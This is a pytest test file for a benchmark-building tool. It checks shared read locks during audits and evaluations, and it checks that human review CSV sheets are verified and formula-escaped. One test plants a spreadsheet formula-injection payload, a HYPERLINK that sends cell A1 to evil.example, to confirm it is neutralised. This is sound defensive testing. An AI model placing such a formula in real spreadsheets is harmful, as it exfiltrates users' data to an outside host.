"""Issue 27, items 5 and 6: readers hold the build's shared lock, and review sheets are verified.

* A reader (audit, eval, review-sample) holds the build's lock *shared* for its whole run: a rebuild
  meanwhile is refused naming the reader, a read during a rebuild is refused naming the writer, and
  a result is written only while the build's logical hash is the one read.
* A review sheet is bound to its build (family and logical hash on every row, the sampled ids in
  ``review/sample.json``): another build's sheet, another family's, forged or duplicated ids and
  verdicts other than ``y``/``n`` are one clear error and change nothing; ``other_correct = n`` is
  not a second right answer; cells a spreadsheet would run as formulas are escaped.
"""

from __future__ import annotations

import csv
import json
import shutil
import threading
from pathlib import Path

import pytest

from probesmith.errors import ArtifactError

from .conftest import FIXTURES, needs_gcide, needs_wordnet, write_filled_sheet
from .test_bad_inputs import check_row, tree

pytestmark = [pytest.mark.integration, needs_gcide]


@pytest.fixture(scope="module")
def reseeded_dictionary_build(tmp_path_factory):
    """The small GCIDE config built with another seed: another build of the same family."""
    from probesmith.builders.build import build
    from probesmith.builders.registry import load_spec

    out = tmp_path_factory.mktemp("builds") / "dictionary-reseeded"
    return build(load_spec(FIXTURES / "dictionary_small.yaml", seed=7), out)


def _copy(build, target: Path) -> Path:
    shutil.copytree(build.out, target)
    return target


def _paused_audit(monkeypatch, build: Path):
    """Start ``run_audit(build)`` in a thread, paused after it read the build; (resume, join)."""
    import probesmith.eval.audit as audit_module
    from probesmith.eval.audit import AuditOptions, run_audit

    reading, resume = threading.Event(), threading.Event()
    real_audit_frames = audit_module.audit_frames

    def paused_audit_frames(*args, **kwargs):
        cells = real_audit_frames(*args, **kwargs)
        reading.set()
        assert resume.wait(120), "the test never resumed the audit"
        return cells

    monkeypatch.setattr(audit_module, "audit_frames", paused_audit_frames)
    outcome: dict = {}

    def target():
        try:
            outcome["result"] = run_audit(build, AuditOptions(baselines=("choice_only",)))
        except BaseException as exc:  # noqa: BLE001 (handed to the test thread)
            outcome["error"] = exc

    thread = threading.Thread(target=target)
    thread.start()
    assert reading.wait(300), "the audit never reached its baselines"

    def finish():
        resume.set()
        thread.join(300)
        return outcome

    return finish


def test_a_rebuild_during_an_audit_is_refused_and_the_audit_carries_its_builds_hash(
    small_dictionary_build, tmp_path, monkeypatch
):
    from probesmith.builders.build import build
    from probesmith.builders.registry import load_spec
    from probesmith.schemas.output import OutputFolder

    target = _copy(small_dictionary_build, tmp_path / "B")
    finish = _paused_audit(monkeypatch, target)
    before = tree(target)
    try:
        with pytest.raises(ArtifactError, match="is being read by probesmith process"):
            build(load_spec(FIXTURES / "dictionary_small.yaml", seed=7), target)
        assert tree(target) == before  # the rebuild changed nothing
    finally:
        outcome = finish()
    assert "error" not in outcome, outcome
    audit = json.loads((target / "audit" / "audit.json").read_text())
    manifest = json.loads((target / "manifest.json").read_text())
    assert audit["source_logical_hash"] == manifest["logical_hash"]
    assert not (tmp_path / ".B.lock").exists()  # the last reader out removes the lock file
    # the lock is free again: a writer may take it (and leaves the build as it was on an error)
    with pytest.raises(RuntimeError, match="abort"):
        with OutputFolder(target, f"build:{manifest['family']}"):
            raise RuntimeError("abort")


def test_an_audit_writes_nothing_into_a_build_replaced_under_it(
    small_dictionary_build, reseeded_dictionary_build, tmp_path, monkeypatch
):
    """A writer that ignores the lock (an older probesmith, a copy by hand) is still caught by the hash."""
    target = _copy(small_dictionary_build, tmp_path / "B")
    finish = _paused_audit(monkeypatch, target)
    try:
        shutil.rmtree(target)
        shutil.copytree(reseeded_dictionary_build.out, target)
    finally:
        outcome = finish()
    assert isinstance(outcome.get("error"), ArtifactError), outcome
    assert "changed while audit read it" in str(outcome["error"])
    assert not (target / "audit").exists()
    assert (
        reseeded_dictionary_build.manifest["logical_hash"] != small_dictionary_build.manifest["logical_hash"]
    )


def test_a_read_while_the_build_is_written_is_refused(small_dictionary_build, tmp_path):
    from probesmith.eval.audit import run_audit
    from probesmith.eval.review import write_review_sheet
    from probesmith.schemas.output import OutputFolder

    target = _copy(small_dictionary_build, tmp_path / "B")
    before = tree(target)
    kind = f"build:{small_dictionary_build.manifest['family']}"
    with pytest.raises(RuntimeError, match="abort"):
        with OutputFolder(target, kind):
            with pytest.raises(ArtifactError, match="is being written by another probesmith process"):
                run_audit(target)
            with pytest.raises(ArtifactError, match="is being written by another probesmith process"):
                write_review_sheet(target, n=5)
            raise RuntimeError("abort")
    assert tree(target) == before


# ---- review sheets ---------------------------------------------------------------------------


def _sheet(build: Path, n: int = 10) -> list[dict]:
    from probesmith.eval.review import write_review_sheet

    sheet = write_review_sheet(build, n=n, force=True)
    with open(sheet, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _filled(rows: list[dict], path: Path, **cells) -> Path:
    for row in rows:
        row.update({"gold_is_correct": "y", "other_correct": "", "reads_naturally": "y", **cells})
    return write_filled_sheet(path, rows)


def _another_builds_sheet(s):
    build = s.build("small_dictionary_build")
    _sheet(build)
    other = s.root / "other"
    shutil.copytree(s.request.getfixturevalue("reseeded_dictionary_build").out, other)
    return ["review-sample", str(build), "--read", str(_filled(_sheet(other), s.root / "filled.csv"))]


def _another_familys_sheet(s):
    build = s.build("small_dictionary_build")
    _sheet(build)
    wordnet = s.build("small_wordnet_build")
    return ["review-sample", str(build), "--read", str(_filled(_sheet(wordnet), s.root / "filled.csv"))]


def _forged_id(s):
    build = s.build("small_dictionary_build")
    rows = _sheet(build)
    rows[3]["item_id"] = "forged-0001"
    return ["review-sample", str(build), "--read", str(_filled(rows, s.root / "filled.csv"))]


def _duplicated_rows(s):
    build = s.build("small_dictionary_build")
    rows = _sheet(build)
    return ["review-sample", str(build), "--read", str(_filled(rows + rows, s.root / "filled.csv"))]


def _edited_config(s):
    build = s.build("small_dictionary_build")
    rows = _sheet(build)
    rows[0]["config"] = "something-else"
    return ["review-sample", str(build), "--read", str(_filled(rows, s.root / "filled.csv"))]


def _verdict(column: str, value: str):
    def prepare(s):
        build = s.build("small_dictionary_build")
        rows = _filled(_sheet(build), s.root / "filled.csv")
        with open(rows, newline="", encoding="utf-8") as fh:
            records = list(csv.DictReader(fh))
        records[4][column] = value
        return [
            "review-sample",
            str(build),
            "--read",
            str(write_filled_sheet(s.root / "filled.csv", records)),
        ]

    return prepare


def _sheet_of_a_rebuilt_build(s):
    """The sample was written, then the build replaced: the old sheet and sample no longer match."""
    build = s.build("small_dictionary_build")
    filled = _filled(_sheet(build), s.root / "filled.csv")
    shutil.rmtree(build)  # a rebuild replaces the folder whole: its review sample goes with it
    shutil.copytree(s.request.getfixturevalue("reseeded_dictionary_build").out, build)
    return ["review-sample", str(build), "--read", str(filled)]


ROWS = [
    ("another-build", 1, "the sheet of another dictionary build", _another_builds_sheet),
    pytest.param("another-family", 1, "is a dictionary build", _another_familys_sheet, marks=needs_wordnet),
    ("forged-id", 1, "'forged-0001' is not in", _forged_id),
    ("duplicated-rows", 1, "is there twice", _duplicated_rows),
    ("edited-config", 1, "not 'something-else'", _edited_config),
    (
        "verdict-maybe",
        1,
        "line 6: gold_is_correct must be y, n or empty, not 'maybe'",
        _verdict("gold_is_correct", "maybe"),
    ),
    (
        "verdict-yes",
        1,
        "gold_is_correct must be y, n or empty, not 'yes'",
        _verdict("gold_is_correct", "yes"),
    ),
    (
        "reads-naturally-1",
        1,
        "reads_naturally must be y, n or empty, not '1'",
        _verdict("reads_naturally", "1"),
    ),
    (
        "other-correct-forged",
        1,
        "other_correct must be y, n, empty, or the letters",
        _verdict("other_correct", "Z"),
    ),
    ("no-sample", 1, "has no review sample", _sheet_of_a_rebuilt_build),
]


def _param(row):
    if hasattr(row, "marks"):  # already a pytest.param
        return pytest.param(*row.values[1:], id=row.values[0], marks=row.marks)
    return pytest.param(*row[1:], id=row[0])


@pytest.mark.parametrize("code, words, prepare", [_param(row) for row in ROWS])
def test_a_hostile_sheet_is_one_clear_error_and_changes_nothing(
    code, words, prepare, tmp_path, request, capsys, monkeypatch
):
    check_row(code, words, prepare, tmp_path, request, capsys, monkeypatch)


def test_only_y_is_a_second_right_answer_and_counts_are_distinct_items(small_dictionary_build, tmp_path):
    from probesmith.eval.review import read_review_sheet

    build = _copy(small_dictionary_build, tmp_path / "B")
    rows = _sheet(build, n=10)
    for i, row in enumerate(rows):
        row["gold_is_correct"] = "" if i == 9 else (" N " if i == 0 else " Y")  # case and spaces ignored
        another_letter = "B" if row["gold"] == "A" else "A"
        row["other_correct"] = {1: "n", 2: "N", 3: "y", 4: another_letter}.get(i, "")
        row["reads_naturally"] = ""
    result = read_review_sheet(build, write_filled_sheet(tmp_path / "filled.csv", rows))
    # 9 reviewed (one blank); wrong: row 0 (gold n), row 3 (y), row 4 (a letter); n is not a second answer
    assert result["overall"]["reviewed"] == 9
    assert result["overall"]["validated_accuracy"] == round(6 / 9, 4)
    assert sum(entry["reviewed"] for entry in result["configs"].values()) == 9
    assert result["build_logical_hash"] == small_dictionary_build.manifest["logical_hash"]
    assert "| `overall` | 9 |" in (build / "README.md").read_text()
    # the verified sample goes with the result, so the sheet can be read again
    assert (
        json.loads((build / "review" / "sample.json").read_text())["logical_hash"]
        == result["build_logical_hash"]
    )
    assert read_review_sheet(build, tmp_path / "filled.csv", force=True)["overall"]["reviewed"] == 9


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x","y")', "+1+2", "-3", "@SUM(A1)", "\tx", "\rx", "'=x", "''+y"]
)
def test_formula_cells_are_escaped_and_read_back_as_they_were(value):
    from probesmith.eval.review import escape_cell, unescape_cell

    escaped = escape_cell(value)
    assert escaped.startswith("'") and unescape_cell(escaped) == value
    for plain in ("plain", "'quoted", "it's", "", "a=b"):
        assert escape_cell(plain) == plain and unescape_cell(plain) == plain


def test_a_hostile_label_is_written_as_text_and_read_back(small_dictionary_build, tmp_path, monkeypatch):
    import probesmith.eval.review as review

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    real_sample = review.review_sample

    def hostile_sample(*args, **kwargs):
        import polars as pl

        sample = real_sample(*args, **kwargs)
        first = pl.Series("question", [hostile] + sample["question"].to_list()[1:])
        return sample.with_columns(first)

    monkeypatch.setattr(review, "review_sample", hostile_sample)
    build = _copy(small_dictionary_build, tmp_path / "B")
    sheet = review.write_review_sheet(build, n=5)
    raw = sheet.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and ",=HYPERLINK" not in raw and '"=HYPERLINK' not in raw
    records = review._sheet_records(sheet)
    assert hostile in [r["question"] for r in records]
    rows = list(csv.DictReader(open(sheet, newline="", encoding="utf-8")))
    result = review.read_review_sheet(build, _filled(rows, tmp_path / "filled.csv"), force=True)
    assert result["overall"]["reviewed"] == 5


def test_a_rebuild_during_an_eval_is_refused_and_the_results_carry_their_builds_hash(
    small_dictionary_build, tiny_gpt2_dir, tmp_path, monkeypatch
):
    import probesmith.eval.run as run_module
    from probesmith.builders.build import build
    from probesmith.builders.registry import load_spec
    from probesmith.eval.run import EvalOptions, run_evaluation

    target = _copy(small_dictionary_build, tmp_path / "B")
    scoring, resume = threading.Event(), threading.Event()
    real_evaluate = run_module.evaluate

    def paused_evaluate(*args, **kwargs):
        result = real_evaluate(*args, **kwargs)
        scoring.set()
        assert resume.wait(120), "the test never resumed the evaluation"
        return result

    monkeypatch.setattr(run_module, "evaluate", paused_evaluate)
    outcome: dict = {}

    def target_run():
        try:
            outcome["result"] = run_evaluation(
                str(tiny_gpt2_dir), target, EvalOptions(max_items=8), out=tmp_path / "runs"
            )
        except BaseException as exc:  # noqa: BLE001 (handed to the test thread)
            outcome["error"] = exc

    thread = threading.Thread(target=target_run)
    thread.start()
    try:
        assert scoring.wait(300), "the evaluation never scored"
        with pytest.raises(ArtifactError, match="is being read by probesmith process"):
            build(load_spec(FIXTURES / "dictionary_small.yaml", seed=7), target)
    finally:
        resume.set()
        thread.join(300)
    assert "error" not in outcome, outcome
    metrics = json.loads((tmp_path / "runs" / "metrics.json").read_text())
    assert metrics["run"]["build_hash"] == small_dictionary_build.manifest["logical_hash"]
    assert not (tmp_path / ".B.lock").exists()


def test_readers_share_the_lock_and_the_last_one_out_frees_it(tmp_path):
    """Two readers at once; a writer is refused until both are gone (the first one out must not
    remove the lock file from under the second); a missing input is not locked at all."""
    from probesmith.schemas.output import OutputFolder, SharedReadLock

    build = tmp_path / "B"
    with OutputFolder(build, "eval") as staging:  # an output of ours, which a writer may replace
        (staging / "data.txt").write_text("x")
    first, second = SharedReadLock(build, "audit"), SharedReadLock(build, "eval")
    first.__enter__()
    second.__enter__()
    with pytest.raises(ArtifactError, match="is being read by probesmith process"):
        OutputFolder(tmp_path / "B", "eval", force=True).__enter__()
    first.__exit__(None, None, None)
    assert (tmp_path / ".B.lock").exists()
    with pytest.raises(ArtifactError, match="is being read by probesmith process"):
        OutputFolder(tmp_path / "B", "eval", force=True).__enter__()
    second.__exit__(None, None, None)
    assert not (tmp_path / ".B.lock").exists()
    with OutputFolder(build, "eval") as staging:  # free again
        (staging / "data.txt").write_text("y")
    assert (build / "data.txt").read_text() == "y"
    with SharedReadLock(tmp_path / "missing", "audit"):
        assert not (tmp_path / ".missing.lock").exists()
